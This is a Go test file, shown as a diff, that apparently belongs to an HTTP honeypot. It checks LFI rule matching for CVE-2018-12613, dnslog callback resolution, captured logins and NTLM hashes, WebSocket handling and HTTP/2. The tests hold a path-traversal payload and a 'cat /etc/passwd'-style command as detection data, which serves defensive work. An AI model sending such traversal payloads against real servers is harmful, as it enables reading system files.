+	rs, _ := compileRoutes(rules)
+	rt, groups := rs.match(req, nil)
+	if rt == nil || rt.Name != "phpmyadmin-lfi" || groups[1] != "/../../etc/passwd" {
+		t.Fatalf("unexpected match %v %v", rt, groups)
+	}
+	data := &templateData{Match: groups, commands: []string{"cat '/../../etc/passwd'"}}
+	details := rt.attackDetails(data)
+	if rt.attack() != "lfi" || details["http.cve"].([]string)[0] != "CVE-2018-12613" || details["http.payload"] != groups[0] {
+		t.Errorf("unexpected details %v", details)
+	}
+}
+
+func TestCallbackResolver(t *testing.T) {
+	logger.InitLog("error")
+	if hdata, err := newHTTPData(httpConfig{}); err != nil || hdata.callbacks != nil {
+		t.Fatalf("callbacks resolved by default: %v", err)
+	}
+	if hdata, err := newHTTPData(httpConfig{ResolveCallbacks: true}); err != nil || hdata.callbacks == nil {
+		t.Fatalf("callbacks not enabled: %v", err)
+	}
+
+	r := newCallbackResolver()
+	now := time.Now()
+	// 同一来源的相同域名只解析一次
+	if !r.allow("1.1.1.1", "a.dnslog.cn", now) || r.allow("1.1.1.1", "A.dnslog.cn", now) {
+		t.Error("duplicate host resolved")
+	}
+	if !r.allow("2.2.2.2", "a.dnslog.cn", now) {
+		t.Error("host of another source not resolved")
+	}
+	// 窗口内超出数量的域名忽略，窗口过后重新计数
+	for i := 1; i < callbackLimit; i++ {
+		if !r.allow("1.1.1.1", fmt.Sprintf("%d.dnslog.cn", i), now) {
+			t.Fatalf("host %d not resolved", i)
+		}
+	}
+	if r.allow("1.1.1.1", "b.dnslog.cn", now) {
+		t.Error("rate limit exceeded")
+	}
+	if !r.allow("1.1.1.1", "b.dnslog.cn", now.Add(callbackWindow)) {
+		t.Error("not resolved after window")
+	}
+
+	// 解析在后台进行
+	var lookups atomic.Int32
+	done := make(chan string, 1)
+	r = newCallbackResolver()
+	r.lookup = func(ctx context.Context, host string) ([]string, error) {
+		lookups.Add(1)
+		done <- host
+		return nil, nil
+	}
+	r.resolve("1.1.1.1", "c.dnslog.cn")
+	r.resolve("1.1.1.1", "c.dnslog.cn")
+	select {
+	case host := <-done:
+		if host != "c.dnslog.cn" {
+			t.Errorf("unexpected host %q", host)
+		}
+	case <-time.After(time.Second):
+		t.Fatal("callback not resolved")
+	}
+	// 占满并发数，等待后台的解析结束，之后的解析被丢弃
+	for i := 0; i < callbackConcurrency; i++ {
+		r.sem <- struct{}{}
+	}
+	r.resolve("1.1.1.1", "d.dnslog.cn")
+	if n := lookups.Load(); n != 1 {
+		t.Errorf("%d lookups", n)
+	}
+}
+
+func TestLogins(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{
+		SiteConfig: SiteConfig{
+			RequestSimulator: []request_simulator{{URI: "/admin", Response: response{Type: "string", Value: "admin"}}},
+			Logins: []loginConfig{
+				{URI: "/login", Cookie: "session", Failure: response{Type: "string", Value: "invalid password", Status: 403}},
+				{Name: "api", URI: "/api/login", UsernameFields: []string{"name"}, Success: response{Type: "json", Value: `{"ok":true}`}},
+				{URI: "/admin", Type: "basic", Realm: "Admin"},
+				{URI: "/digest", Type: "digest", Realm: "Digest"},
+			},
+		},
+		Accounts: []auth.Account{{Username: "admin", Password: "secret"}},
+	})
+	send := func(raw string) (*http.Response, string) {
+		conn, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer conn.Close()
+		conn.Write([]byte(raw))
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp, readBody(t, resp)
+	}
+	post := func(target, contentType, body string) (*http.Response, string) {
+		return send("POST " + target + " HTTP/1.1\r\nHost: x\r\nContent-Type: " + contentType + "\r\nContent-Length: " +
+			strconv.Itoa(len(body)) + "\r\nConnection: close\r\n\r\n" + body)
+	}
+	get := func(target string, headers ...string) (*http.Response, string) {
+		return send("GET " + target + " HTTP/1.1\r\nHost: x\r\n" + strings.Join(headers, "") + "Connection: close\r\n\r\n")
+	}
+
+	form := "application/x-www-form-urlencoded"
+	if resp, body := post("/login", form, "username=admin&password=wrong"); resp.StatusCode != 403 || body != "invalid password" {
+		t.Errorf("form failure: %d %q", resp.StatusCode, body)
+	}
+	resp, _ := post("/login", form, "username=admin&password=secret")
+	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/" || !strings.HasPrefix(resp.Header.Get("Set-Cookie"), "session=") {
+		t.Errorf("form success: %d %v", resp.StatusCode, resp.Header)
+	}
+	if resp, body := post("/api/login", "application/json", `{"data":{"Name":"admin","password":"secret"}}`); resp.StatusCode != 200 || body != `{"ok":true}` {
+		t.Errorf("json success: %d %q", resp.StatusCode, body)
+	}
+
+	// Basic 质询通过后继续按规则响应
+	resp, _ = get("/admin")
+	if resp.StatusCode != http.StatusUnauthorized || resp.Header.Get("WWW-Authenticate") != `Basic realm="Admin"` {
+		t.Errorf("basic challenge: %d %v", resp.StatusCode, resp.Header)
+	}
+	basic := "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("admin:secret")) + "\r\n"
+	if resp, body := get("/admin", basic); resp.StatusCode != 200 || body != "admin" {
+		t.Errorf("basic success: %d %q", resp.StatusCode, body)
+	}
+
+	resp, _ = get("/digest")
+	challenge := resp.Header.Get("WWW-Authenticate")
+	if resp.StatusCode != http.StatusUnauthorized || !strings.HasPrefix(challenge, "Digest ") {
+		t.Fatalf("digest challenge: %d %q", resp.StatusCode, challenge)
+	}
+	nonce := regexp.MustCompile(`nonce="([^"]+)"`).FindStringSubmatch(challenge)[1]
+	md5hex := func(s string) string {
+		sum := md5.Sum([]byte(s))
+		return hex.EncodeToString(sum[:])
+	}
+	digest := func(password string) string {
+		ha1, ha2 := md5hex("admin:Digest:"+password), md5hex("GET:/digest")
+		return fmt.Sprintf(`Authorization: Digest username="admin", realm="Digest", nonce="%s", uri="/digest", qop=auth, nc=00000001, cnonce="abc", response="%s"`+"\r\n",
+			nonce, md5hex(ha1+":"+nonce+":00000001:abc:auth:"+ha2))
+	}
+	if resp, _ := get("/digest", digest("wrong")); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("digest failure: %d", resp.StatusCode)
+	}
+	if resp, _ := get("/digest", digest("secret")); resp.StatusCode != http.StatusNotFound {
+		t.Errorf("digest success: %d", resp.StatusCode)
+	}
+}
+
+func TestNTLMLogin(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{
+		SiteConfig: SiteConfig{Logins: []loginConfig{{URI: "/ews", Type: "ntlm", Realm: "corp", Success: response{Type: "string", Value: "ok"}}}},
+		Accounts:   []auth.Account{{Username: "alice", Password: "Passw0rd"}},
+	})
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	reader := bufio.NewReader(conn)
+	get := func(authorization string) *http.Response {
+		conn.Write([]byte("GET /ews HTTP/1.1\r\nHost: x\r\nAuthorization: NTLM " + authorization + "\r\n\r\n"))
+		resp, err := http.ReadResponse(reader, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		readBody(t, resp)
+		return resp
+	}
+
+	negotiate := append([]byte("NTLMSSP\x00\x01\x00\x00\x00"), make([]byte, 20)...)
+	resp := get(base64.StdEncoding.EncodeToString(negotiate))
+	scheme, encoded, _ := strings.Cut(resp.Header.Get("WWW-Authenticate"), " ")
+	msg, err := base64.StdEncoding.DecodeString(encoded)
+	if resp.StatusCode != http.StatusUnauthorized || scheme != "NTLM" || err != nil || binary.LittleEndian.Uint32(msg[8:]) != 2 {
+		t.Fatalf("ntlm challenge: %d %q", resp.StatusCode, resp.Header.Get("WWW-Authenticate"))
+	}
+	serverChallenge := msg[24:32]
+
+	// NTLMv2 响应
+	authenticate := func(password string) string {
+		h := md4.New()
+		h.Write(utf16le(password))
+		mac := hmac.New(md5.New, h.Sum(nil))
+		mac.Write(utf16le("ALICE" + "CORP"))
+		mac = hmac.New(md5.New, mac.Sum(nil))
+		blob := bytes.Repeat([]byte{7}, 28)
+		mac.Write(serverChallenge)
+		mac.Write(blob)
+		nt := append(mac.Sum(nil), blob...)
+		fields := [][]byte{make([]byte, 24), nt, utf16le("CORP"), utf16le("alice"), utf16le("WS01")}
+		var b bytes.Buffer
+		b.WriteString("NTLMSSP\x00")
+		binary.Write(&b, binary.LittleEndian, uint32(3))
+		offset := 64
+		for _, f := range fields {
+			writeSecurityBuffer(&b, len(f), offset)
+			offset += len(f)
+		}
+		writeSecurityBuffer(&b, 0, offset)
+		binary.Write(&b, binary.LittleEndian, uint32(ntlmNegotiateUnicode))
+		for _, f := range fields {
+			b.Write(f)
+		}
+		return base64.StdEncoding.EncodeToString(b.Bytes())
+	}
+	if resp := get(authenticate("Passw0rd")); resp.StatusCode != 200 {
+		t.Errorf("ntlm success: %d", resp.StatusCode)
+	}
+
+	// 没有 Type2 质询的 Type3 消息不能通过
+	if resp := get(authenticate("Passw0rd")); resp.StatusCode != http.StatusUnauthorized {
+		t.Errorf("ntlm replay: %d", resp.StatusCode)
+	}
+	a, err := parseNTLMAuthenticate(mustDecode(t, authenticate("wrong")))
+	if err != nil {
+		t.Fatal(err)
+	}
+	attempt := a.attempt(serverChallenge)
+	if a.user != "alice" || a.domain != "CORP" || a.workstation != "WS01" || attempt.verify("Passw0rd") || !attempt.verify("wrong") {
+		t.Errorf("unexpected authenticate %+v", a)
+	}
+	if hash := attempt.details["http.ntlm_hash"].(string); !strings.HasPrefix(hash, "alice::CORP:"+hex.EncodeToString(serverChallenge)+":") {
+		t.Errorf("ntlm hash %q", hash)
+	}
+}
+
+func mustDecode(t *testing.T, s string) []byte {
+	t.Helper()
+	b, err := base64.StdEncoding.DecodeString(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func TestWebSocket(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{SiteConfig: SiteConfig{
+		RequestSimulator: []request_simulator{{URI: "/ws", Response: response{Type: "string", Value: "page"}}},
+		WebSockets: []websocketConfig{{
+			URI:          "/ws",
+			Subprotocols: []string{"graphql-ws"},
+			Welcome:      `{"type":"welcome","host":"{{.Host}}"}`,
+			Messages: []websocketMessage{
+				{Match: `^exit$`, Response: "bye", Close: true},
+				{Match: `"cmd":"(\w+)"`, Response: `{"result":"{{index .Match 1}}"}`},
+				{Response: "echo {{.Message}}"},
+			},
+		}},
+	}})
+
+	// 不是握手请求时按普通请求处理
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.Write([]byte("GET /ws HTTP/1.1\r\nHost: x\r\n\r\n" +
+		"GET /ws HTTP/1.1\r\nHost: x\r\nConnection: keep-alive, Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
+		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chat, graphql-ws\r\n\r\n"))
+	br := bufio.NewReader(conn)
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if body := readBody(t, resp); body != "page" {
+		t.Errorf("plain request: %q", body)
+	}
+	if resp, err = http.ReadResponse(br, nil); err != nil {
+		t.Fatal(err)
+	}
+	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("Sec-WebSocket-Accept") != "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=" ||
+		resp.Header.Get("Sec-WebSocket-Protocol") != "graphql-ws" || resp.Header.Get("Upgrade") != "websocket" {
+		t.Fatalf("handshake: %d %v", resp.StatusCode, resp.Header)
+	}
+
+	send := func(opcode byte, payload string, fin bool) {
+		first := opcode
+		if fin {
+			first |= 0x80
+		}
+		mask := []byte{1, 2, 3, 4}
+		frame := append([]byte{first, 0x80 | byte(len(payload))}, mask...)
+		for i := range payload {
+			frame = append(frame, payload[i]^mask[i%4])
+		}
+		conn.Write(frame)
+	}
+	read := func() (byte, string) {
+		t.Helper()
+		conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+		f := make([]byte, 2)
+		if _, err := io.ReadFull(br, f); err != nil {
+			t.Fatal(err)
+		}
+		payload := make([]byte, f[1]&0x7f)
+		if _, err := io.ReadFull(br, payload); err != nil {
+			t.Fatal(err)
+		}
+		return f[0] & 0x0f, string(payload)
+	}
+
+	if op, msg := read(); op != wsText || msg != `{"type":"welcome","host":"x"}` {
+		t.Errorf("welcome: %d %q", op, msg)
+	}
+	send(wsText, `{"cmd":"id"}`, true)
+	if _, msg := read(); msg != `{"result":"id"}` {
+		t.Errorf("cmd reply: %q", msg)
+	}
+	// 分片的消息合并后回复，中间的控制帧立即回复
+	send(wsText, "hel", false)
+	send(wsPing, "p", true)
+	send(wsContinuation, "lo", true)
+	if op, msg := read(); op != wsPong || msg != "p" {
+		t.Errorf("pong: %d %q", op, msg)
+	}
+	if _, msg := read(); msg != "echo hello" {
+		t.Errorf("echo: %q", msg)
+	}
+	send(wsText, "exit", true)
+	if _, msg := read(); msg != "bye" {
+		t.Errorf("bye: %q", msg)
+	}
+	if op, msg := read(); op != wsClose || msg != "\x03\xe8" {
+		t.Errorf("close: %d %q", op, msg)
+	}
+
+	// 没有掩码的帧按协议错误关闭
+	conn2, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn2.Close()
+	conn2.Write([]byte("GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AQIDBAUGBwgJCgsMDQ4PEA==\r\n\r\n"))
+	br2 := bufio.NewReader(conn2)
+	if resp, err := http.ReadResponse(br2, nil); err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
+		t.Fatalf("handshake: %v %v", resp, err)
+	}
+	conn2.Write([]byte{0x81, 0x02, 'h', 'i'})
+	frames, _ := io.ReadAll(br2)
+	if !bytes.HasSuffix(frames, []byte{0x88, 0x02, 0x03, 0xea}) {
+		t.Errorf("protocol error close: %x", frames)
+	}
+}
+
+func TestHTTP2(t *testing.T) {
+	global.DataDir = t.TempDir()
+	defer func() { global.DataDir = "" }()
+	cfg := httpConfig{
+		SiteConfig: SiteConfig{RequestSimulator: []request_simulator{{URI: "/a", Response: response{Type: "string", Value: "page a"}}}},
+		HTTP2:      true,
+	}
+	plain := serveHTTP(t, cfg)
+	cfg.TLS = tlsConfig{Enable: true}
+	secure := serveHTTP(t, cfg)
+
+	check := func(name string, resp *http.Response, err error) {
+		t.Helper()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if body := readBody(t, resp); resp.ProtoMajor != 2 || resp.StatusCode != 200 || body != "page a" {
+			t.Errorf("%s: %s %d %q", name, resp.Proto, resp.StatusCode, body)
+		}
+	}
+
+	// ALPN
+	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true}}
+	resp, err := client.Get("https://" + secure + "/a")
+	check("alpn", resp, err)
+
+	// 直接发送连接前言
+	h2c := &http2.Transport{
+		AllowHTTP: true,
+		DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
+			return net.Dial(network, addr)
+		},
+	}
+	resp, err = (&http.Client{Transport: h2c}).Get("http://" + plain + "/a")
+	check("prior knowledge", resp, err)
+	if resp, err := (&http.Client{Transport: h2c}).Get("http://" + plain + "/missing"); err != nil || resp.StatusCode != 404 {
+		t.Errorf("prior knowledge 404: %v %v", resp, err)
+	}
+
+	// h2c 升级，升级的请求作为流1响应
+	conn, err := net.Dial("tcp", plain)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.Write([]byte("GET /a HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"))
+	br := bufio.NewReader(conn)
+	if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
+		t.Fatalf("h2c upgrade: %v %v", resp, err)
+	}
+	conn.Write([]byte(http2.ClientPreface))
+	framer := http2.NewFramer(conn, br)
+	framer.WriteSettings()
+	var (
+		status string
+		body   []byte
+	)
+	decoder := hpack.NewDecoder(4096, func(f hpack.HeaderField) {
+		if f.Name == ":status" {
+			status = f.Value
+		}
+	})
+	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	for done := false; !done; {
+		f, err := framer.ReadFrame()
+		if err != nil {
+			t.Fatal(err)
+		}
+		switch f := f.(type) {
+		case *http2.HeadersFrame:
+			decoder.Write(f.HeaderBlockFragment())
+			done = f.StreamEnded()
+		case *http2.DataFrame:
+			body = append(body, f.Data()...)
+			done = f.StreamEnded()
+		}
+	}
+	if status != "200" || string(body) != "page a" {
+		t.Errorf("h2c upgrade: %s %q", status, body)
+	}
+}